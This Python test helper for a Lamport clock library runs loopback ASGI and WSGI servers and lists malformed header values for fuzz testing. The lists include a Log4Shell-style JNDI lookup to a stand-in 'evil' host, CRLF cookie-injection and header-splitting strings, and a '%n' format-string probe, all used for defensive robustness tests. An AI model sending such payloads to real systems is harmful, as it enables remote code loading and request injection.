"""Services to send messages to, on loopback, and messages that wish them ill."""

from __future__ import annotations

import errno
import socket
import socketserver
import threading
import wsgiref.simple_server
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import uvicorn
from lamport_clock import SharedClock, Stamp
from servers import PATIENCE

FAR_AHEAD = f"{2**53 - 1}@evil"

# Values of the header that must change nothing. Some of them servers refuse by themselves.
HOSTILE = [
    "",
    " ",
    ",",
    "42",
    "@",
    "42@",
    "@api",
    "-1@api",
    "+1@api",
    "1.5@api",
    "1e3@api",
    "0x10@api",
    "1_000@api",
    f"{2**53}@api",
    f"{2**64}@api",
    f"{2**64 + 1}@api",
    "9" * 1000 + "@api",
    "1" * 5000,
    "42@api;instance=ff",
    "42@api;instance=00000000000000FG",
    "42@api;instance=",
    "42@a b",
    "42@" + "x" * 256,
    "42@%00",
    "42@%ff%fe",
    "42@%3binstance=00000000000000ff",
    "42@a%0d%0aset-cookie:x",
    "42 @api",
    "{}",
    '{"lamport": 42}',
    "${jndi:ldap://evil/x}",
    "%s%s%s%n",
    "x" * 8000,
    ";" * 1000,
    "," * 1000,
    FAR_AHEAD,
]
# What no header can hold on its way through a server, and every carrier else may bring.
UNPRINTABLE = [
    "\0",
    "42@api\0",
    "42\r\nx: y@api",
    "\uff14\uff12@api",  # full-width digits
    "\u0664\u0662@api",  # Arabic-Indic digits
    "42@b\u00fcro",
    "\ud800@api",
    "42@\u2028",
    b"\xff\xfe\x00",
    b"42@b\xc3\xbcro",
    b"x" * 10_000_000,
    "x" * 10_000_000,
    None,
    42,
    True,
    1.5,
    {"lamport": "42@api"},
    print,
    [[["42@api"]]],
    [None] * 100_000,
]


class Recorder:
    """A local clock that writes down what it is told."""

    def __init__(self) -> None:
        self._clock = SharedClock.memory("recorder")
        self.received: list[Stamp] = []

    def tick(self) -> Stamp:
        return self._clock.tick()

    def receive(self, message: Stamp, /) -> Stamp:
        self.received.append(message)
        return self._clock.receive(message)


def exhausted() -> SharedClock:
    """A clock that has no time left."""
    clock = SharedClock.open("memory:", "exhausted", max_jump=2**53)
    clock.receive(2**53 - 2)
    assert clock.now() == 2**53 - 1
    return clock


@contextmanager
def asgi(application: Any) -> Iterator[str]:  # noqa: ANN401
    """The application behind uvicorn; its address."""
    listener = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(application, log_config=None, lifespan="on"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
    thread.start()
    try:
        yield f"127.0.0.1:{listener.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(PATIENCE)
        listener.close()
        assert not thread.is_alive(), "uvicorn did not end"


class _Quiet(wsgiref.simple_server.WSGIRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


class _Threads(socketserver.ThreadingMixIn, wsgiref.simple_server.WSGIServer):
    daemon_threads = True


@contextmanager
def wsgi(application: Any) -> Iterator[str]:  # noqa: ANN401
    """The application behind wsgiref; its address."""
    server = wsgiref.simple_server.make_server("127.0.0.1", 0, application, _Threads, _Quiet)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join(PATIENCE)
        server.server_close()


def raw(address: str, *headers: bytes) -> bytes:
    """GET / with these lines of headers, byte for byte; the whole answer."""
    host, _, port = address.partition(":")
    lines = [b"GET / HTTP/1.1", b"host: x", b"connection: close", *headers]
    request = b"\r\n".join([*lines, b"", b""])
    answer = b""
    with socket.create_connection((host, int(port)), PATIENCE) as connection:
        try:
            connection.sendall(request)
            connection.shutdown(socket.SHUT_WR)
            while more := connection.recv(65_536):
                answer += more
        except OSError as error:
            # A server may hang up on what it refuses to read, at any moment.
            if error.errno not in (errno.ECONNRESET, errno.EPIPE, errno.ENOTCONN):
                raise
    return answer
